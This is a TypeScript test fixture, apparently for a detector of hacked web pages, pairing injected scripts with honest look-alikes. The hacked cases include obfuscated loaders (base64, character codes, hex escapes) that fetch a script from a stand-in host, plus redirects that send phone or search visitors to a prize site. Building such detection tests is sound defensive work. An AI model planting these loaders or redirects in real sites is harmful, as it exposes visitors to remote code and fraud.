/** Sites with scripts that look hacked, and honest ones that look like them. */
import { onBody, script, shop, site } from "./small-shop.ts";
import type { SiteWideCase } from "./site-wide-case.ts";

const codes = (text: string) => [...text].map((sign) => sign.charCodeAt(0)).join(",");

const hexadecimal = (text: string) =>
  [...text].map((sign) => `\\x${sign.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");

const percents = (text: string) =>
  [...text].map((sign) => `%${sign.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");

const LOADER =
  'var s=document.createElement("script");s.src="https://odd-host.example/a.js";document.head.appendChild(s)';

const scripts: readonly SiteWideCase[] = [
  site("hacked-page", true, "base64 that is run", shop(script(`eval(atob("${btoa(LOADER)}"))`))),
  site(
    "hacked-page",
    true,
    "character codes that are run",
    shop(script(`eval(String.fromCharCode(${codes(LOADER)}))`)),
  ),
  site(
    "hacked-page",
    true,
    "escapes that are written into the page",
    shop(
      script(`document.write("${hexadecimal('<script src="https://odd-host.example/a.js">')}")`),
    ),
  ),
  site(
    "hacked-page",
    true,
    "an address in character codes",
    shop(
      script(
        `var a=document.createElement("script");a.src=String.fromCharCode(${codes("https://odd-host.example/a.js")});`,
      ),
    ),
  ),
  site(
    "hacked-page",
    false,
    "a mail address",
    shop(
      script(`document.write(unescape("${percents('<a href="mailto:us@shop.example">us</a>')}"))`),
    ),
  ),
  site(
    "hacked-page",
    false,
    "an old counter of visitors",
    shop(
      script(
        `document.write(unescape("%3Cscript src='" + host + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`,
      ),
    ),
  ),
  site(
    "hacked-page",
    false,
    "settings",
    shop(script(`var settings = JSON.parse(atob("${btoa('{"cloth":"wool","price":1200}')}"));`)),
  ),
  site(
    "hacked-page",
    false,
    "a minified library",
    shop(
      script(
        '!function(e,t){var n=e.createElement("script");n.src="https://www.googletagmanager.com/gtm.js",t.appendChild(n)}(document,document.head);',
      ),
    ),
  ),
  site(
    "hacked-page",
    false,
    "code that is shown in an article",
    shop(onBody(`<pre>eval(atob("${btoa(LOADER)}"))</pre>`)),
  ),
];

const redirects: readonly SiteWideCase[] = [
  site(
    "hacked-page",
    true,
    "phones",
    shop(
      script(
        'if (/android|iphone/i.test(navigator.userAgent)) { window.location.href = "https://prizes.example/win"; }',
      ),
    ),
  ),
  site(
    "hacked-page",
    true,
    "visitors from a search",
    shop(
      script(
        'var r = document.referrer; if (r.indexOf("google.") > 0) { location.replace("https://prizes.example/win"); }',
      ),
    ),
  ),
  site(
    "hacked-page",
    true,
    "phones, to a packed address",
    shop(
      script(
        `var to = "//prizes.example/win"; if (navigator.userAgent.match(/Mobile/)) { location = to; } if (/iPad/.test(navigator.userAgent)) location.href = atob("${btoa("https://prizes.example/win")}")`,
      ),
    ),
  ),
  site(
    "hacked-page",
    false,
    "to the site’s own version for phones",
    shop(
      script(
        'if (/android|iphone/i.test(navigator.userAgent)) { location.href = "https://m.shop.example/"; }',
      ),
    ),
  ),
  site(
    "hacked-page",
    false,
    "to the shop for apps",
    shop(
      script(
        'if (/iphone/i.test(navigator.userAgent)) { location.href = "https://apps.apple.com/app/id1"; }',
      ),
    ),
  ),
  site(
    "hacked-page",
    false,
    "for everybody",
    shop(script('location.href = "https://new-shop.example/";')),
  ),
  site(
    "hacked-page",
    false,
    "that is counted alone",
    shop(
      script(
        'var phone = /android|iphone/i.test(navigator.userAgent); var from = document.referrer; send("https://count.example/", phone, from, location.href == "https://prizes.example/");',
      ),
    ),
  ),
];

export const hackedScripts: readonly SiteWideCase[] = [...scripts, ...redirects];
